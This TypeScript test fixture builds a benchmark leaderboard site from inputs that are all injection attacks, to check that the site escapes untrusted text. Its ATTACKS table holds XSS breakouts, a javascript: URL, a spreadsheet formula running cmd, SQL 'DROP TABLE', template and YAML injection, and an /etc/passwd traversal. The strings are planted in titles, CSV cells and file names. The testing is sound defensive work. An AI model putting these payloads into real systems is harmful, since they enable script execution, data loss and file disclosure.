/**
 * A leaderboard whose every text is an attack: what strangers can write (model names, licences,
 * architectures, base models, file names) and what a careless team could (titles, descriptions).
 */
import { spawnSync } from "node:child_process";
import { copyFile, mkdir, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { parquetWriteBuffer } from "hyparquet-writer";
import tiny from "../fixtures/tiny-suite.json" with { type: "json" };
import { pullTexts } from "../pipeline/sources/cached.ts";
import { kitchenRequests, kitchenResults, kitchenVotes } from "../pipeline/sources/kitchen.ts";

/** Set by any of the texts below that gets to run. */
export const RAN = "ranHostile";

const script = `window.${RAN}=1`;

/** Each breaks out of another kind of place. */
export const ATTACKS = {
  element: `"><img src=x onerror="${script}">`,
  script: `</script><script>${script}</script>`,
  style: `</style></title></textarea><svg onload="${script}">`,
  cdata: `]]><script xmlns="http://www.w3.org/1999/xhtml">${script}</script>`,
  comment: `--><script>${script}</script><!--`,
  attribute: `' onmouseover='${script}' x='`,
  url: `javascript:${script}`,
  formula: `=HYPERLINK("https://example.org/?"&A1,"open")`,
  formula2: `@SUM(1+1)*cmd|' /C calc'!A0`,
  yaml: `x: !!js/function "${script}"\n- evil: [&a *a]`,
  sql: `'; DROP TABLE models; --`,
  template: "\u0024{alert(1)}{{constructor.constructor('alert(1)')()}}{alert(1)}",
  path: "../../../../etc/passwd",
  markdown: `| [x](javascript:${script}) ![x](https://example.org/x.png) \`\n# y`,
  control: "a\u0000b\u0008c\u001bd\u202etxt.exe\u2028e\ufffef\ud800",
} as const;

/** Names as the Hub allows them, of those that have meaning to some program. */
export const NAMES = [
  "__proto__/constructor",
  "-rf/--help",
  "constructor/hasOwnProperty",
  "CON/nul.html",
  "index/html.index",
  "a/a.parquet",
  `${"L".repeat(96)}/${"o".repeat(96)}`,
  "owner/Same",
  "owner/same",
  "toString",
];

/** Builds the site in a folder with the project's own commands; a second snapshot has gone and new models. */
export async function buildHostile(folder: string): Promise<{ dist: string; log: string }> {
  const pub = join(folder, "public");
  await mkdir(join(pub, "data"), { recursive: true });
  await copyFile("public/favicon.svg", join(pub, "favicon.svg"));
  const config = join(folder, "hostile.config.mjs");
  await writeFile(config, `export default ${JSON.stringify(hostileConfig(folder))};`);
  const names = Object.keys(ATTACKS);
  const env = {
    ...process.env,
    LEADERBOARD_CONFIG: config,
    PUBLIC_DIR: pub,
    OUT_DIR: join(folder, "dist"),
    PICTURES_CACHE: join(folder, "pictures"),
  };
  let log = "";
  const run = (...args: string[]) => {
    const { status, stdout, stderr } = spawnSync(process.execPath, args, { env, encoding: "utf8" });
    log += stdout + stderr;
    if (status !== 0) throw new Error(`${args.join(" ")}: ${log.slice(-2000)}`);
  };
  await pullHostile(join(folder, "hub"));
  for (const [day, rows] of [
    ["2025-01-01", NAMES.slice(2)],
    ["2025-02-02", NAMES],
  ] as const) {
    // A file's name is a text too.
    const source = join(folder, `${day} <img src=x onerror=${script}>.csv`);
    await writeFile(source, await table(rows, names.length));
    const hub = ["--source", `hf://datasets/${HUB}`, "--cache", join(folder, "hub")];
    run("scripts/data.ts", "--source", source, ...(rows === NAMES ? hub : []), "--as-of", day);
  }
  run("scripts/astro.ts", "build");
  return { dist: join(folder, "dist"), log };
}

/** A dataset of the Hub whose files name their fields, their columns and themselves in attacks. */
const HUB = "hostile/everything";

async function pullHostile(cache: string): Promise<void> {
  const attacks = Object.values(ATTACKS).filter((text) => !text.includes("\ud800"));
  const more = Object.fromEntries(attacks.map((text) => [text, text]));
  const [request] = Object.entries(kitchenRequests([["hostile/Asked", "PENDING"]]));
  const texts = { base_model: ATTACKS.element, architectures: ATTACKS.script, sender: ATTACKS.sql };
  // What is no segment of a path on the Hub cannot be in a listing.
  const paths = attacks.filter((text) => !/\.\.|\/\//.test(text));
  await pullTexts(cache, HUB, {
    ...kitchenResults([{ model: "hostile/Pulled", right: 0.8, more }]),
    ...Object.fromEntries(paths.map((text) => [`${text}/results_1.json`, "{"])),
    [request![0]]: JSON.stringify({ ...JSON.parse(request![1]), ...texts }),
    "b/b_eval_request_False_float16_Original.json": JSON.stringify({ model: ATTACKS.style }),
    ...kitchenVotes([
      ["hostile/Asked", ATTACKS.attribute],
      [ATTACKS.element, "somebody"],
    ]),
    "data/train-00000-of-00001.parquet": publishedTable([...attacks, "Sparkle"]),
  });
}

/** A table in the Hub's own header, with columns that nobody knows. */
function publishedTable(others: string[]): Uint8Array {
  const scores = tiny.benchmarks.flatMap((b) => [`${b.key} Raw`, b.key]);
  const columnData = [
    { name: "fullname", data: ["hostile/Published"] },
    { name: "Average ⬆️", data: [50] },
    ...scores.map((name) => ({ name, data: [name.endsWith(" Raw") ? 0.5 : 33] })),
    ...others.map((name) => ({ name, data: [name] })),
  ];
  return new Uint8Array(parquetWriteBuffer({ columnData }));
}

function hostileConfig(folder: string) {
  const say = (text: string, name: keyof typeof ATTACKS) => `${text} ${ATTACKS[name]}`;
  return {
    title: say("Hostile", "script"),
    tagline: say("Attacks", "element"),
    suites: [
      {
        ...tiny,
        name: say("Suite", "style"),
        benchmarks: tiny.benchmarks.map((b, i) => ({
          ...b,
          name: say(b.name, (["cdata", "element", "markdown", "formula"] as const)[i % 4]!),
          area: say(b.area, "attribute"),
          description: say(b.description, "comment"),
        })),
      },
    ],
    snapshot: join(folder, "none"),
  };
}

/** The columns of another team's table, with an attack in every text. */
async function table(models: readonly string[], attacks: number): Promise<string> {
  const [head = "", first = ""] = (
    await readFile("tests/fixtures/tiny/snapshot/kitchen-sense.csv", "utf8")
  ).split("\n");
  const names = head.split(",");
  const values = first.split(",");
  const texts = Object.values(ATTACKS);
  // Every attack stands in every text column, and rows enough for all of them.
  const rows = Array.from({ length: Math.max(models.length, attacks) }, (_, i) => {
    const cells = names.map((name, column) => {
      const attack = texts[(i + column) % texts.length]!;
      if (name === "model") return models[i] ?? `hostile/Model-${i}`;
      if (["license", "architecture", "base_model"].includes(name))
        return attack.replaceAll("\u0000", "");
      return values[column] ?? "";
    });
    return cells.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(",");
  });
  // A name that the Hub would not have is set aside, and its reason is published.
  const bad = names.map((name, i) =>
    name === "model" ? `"${ATTACKS.element.replaceAll('"', '""')}"` : values[i],
  );
  return `${[head, ...rows, bad.join(",")].join("\n")}\n`;
}
